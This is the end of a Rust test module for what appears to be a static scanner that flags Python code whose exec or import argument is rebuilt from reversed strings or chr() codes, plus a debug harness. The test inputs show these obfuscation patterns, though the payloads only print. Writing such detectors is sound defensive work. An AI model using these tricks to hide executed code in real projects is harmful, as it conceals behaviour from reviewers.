        let l = sink_labels("n = chr(code)\nexec(n)\n", "exec");
        assert!(!l.has(Labels::DECODED), "{l:?}");
        // A string literal elsewhere in the expression is not text being built.
        let l = sink_labels(
            "for m in reversed(list(node.iter_markers('sphinx'))):\n    a = m.args\nsubprocess.run([a, '-V'])\n",
            "subprocess.run",
        );
        assert!(!l.has(Labels::DECODED), "{l:?}");
        // Components reversed and joined with a separator rebuild a dotted
        // name or a path (flask's module name from a file path).
        for src in [
            "parts = []\nparts.append(name)\nm = '.'.join(parts[::-1])\n__import__(m)\n",
            "m = '/'.join(reversed(parts))\n__import__(m)\n",
        ] {
            assert!(!sink_labels(src, "__import__").has(Labels::DECODED), "{src}");
        }
        assert!(sink_labels("m = ''.join(blob[::-1])\n__import__(m)\n", "__import__").has(Labels::DECODED));
        // Elements of a sequence walked backwards (sympy's printers and
        // namespaces) are not reversed text; a reversed string joined is.
        let src = "for m in namespaces[::-1]:\n    ns.update(m)\n    exec(line, m)\n";
        assert!(!sink_labels(src, "exec").has(Labels::DECODED), "{src}");
        let src = "for i, a in limits[::-1]:\n    s = self._print(i)\n";
        assert!(!sink_labels(src, "self._print").has(Labels::DECODED), "{src}");
        assert!(sink_labels("for c in ''.join(blob[::-1]):\n    x = c\nexec(x)\n", "exec").has(Labels::DECODED));
        assert!(sink_labels("m = blob[::-1]\n__import__(m)\n", "__import__").has(Labels::DECODED));
        // Text built by reversing or from character codes still is.
        for src in [
            "x = ''.join(reversed('1)(tnirp'))\nexec(x)\n",
            "x = ''.join(map(chr, [112, 114, 105, 110, 116]))\nexec(x)\n",
            "x = ''.join(chr(c) for c in data)\nexec(x)\n",
        ] {
            assert!(sink_labels(src, "exec").has(Labels::DECODED), "{src}");
        }
    }
}

#[cfg(test)]
mod debug {
    /// `SCAN_DEBUG=file.py cargo test -p revitpy-scan debug_file -- --ignored --nocapture`
    #[test]
    #[ignore]
    fn debug_file() {
        let path = std::env::var("SCAN_DEBUG").unwrap();
        let text = std::fs::read_to_string(path).unwrap();
        // `SCAN_TS=1`: the tree-sitter front-end's facts.
        let facts = if std::env::var("SCAN_TS").is_ok() {
            crate::python::parse_tree_sitter(&text)
        } else {
            crate::python::parse(&text)
        };
        for a in &facts.assigns {
            println!("assign {:?} <- calls {:?} names {:?} strings {:?}", a.targets, a.calls, a.names, a.strings);
        }
        let flow = super::Flow::new(&facts);
        // `SCAN_NAMES=line:name,line:name`: what each name holds there.
        for item in std::env::var("SCAN_NAMES").unwrap_or_default().split(',').filter(|s| !s.is_empty()) {
            let (line, name) = item.split_once(':').unwrap();
            println!("name {name} at {line}: {:?}", flow.name_labels(line.parse().unwrap(), name));
        }
        // `SCAN_WHY=BITS`: each assignment that yields one of these labels
        // (1: decoded, 8: the environment; see [`super::Labels`]), with what it reads.
        if let Some(bits) = std::env::var("SCAN_WHY").ok().and_then(|v| v.parse().ok()) {
            let wanted = super::Labels(bits);
            for a in &facts.assigns {
                let st = super::static_labels(&a.calls, &a.names, &a.strings);
                let from = flow.labels_read(flow.scopes.at(a.line), Some(a.line), &a.calls, &a.names, &a.strings);
                if st.combine(from).has(wanted) {
                    let own = st.labels.has(wanted);
                    println!("why line {} {:?} own={own} <- {:?} {:?}", a.line, a.targets, a.calls, a.names);
                }
            }
        }
        for c in &facts.calls {
            let labels: Vec<_> = c.args.iter().map(|a| flow.arg_labels(c.line, a)).collect();
            println!(
                "call {} {:?} {labels:?}",
                c.name,
                c.args.iter().map(|a| (&a.inner_calls, &a.names)).collect::<Vec<_>>()
            );
        }
    }
}
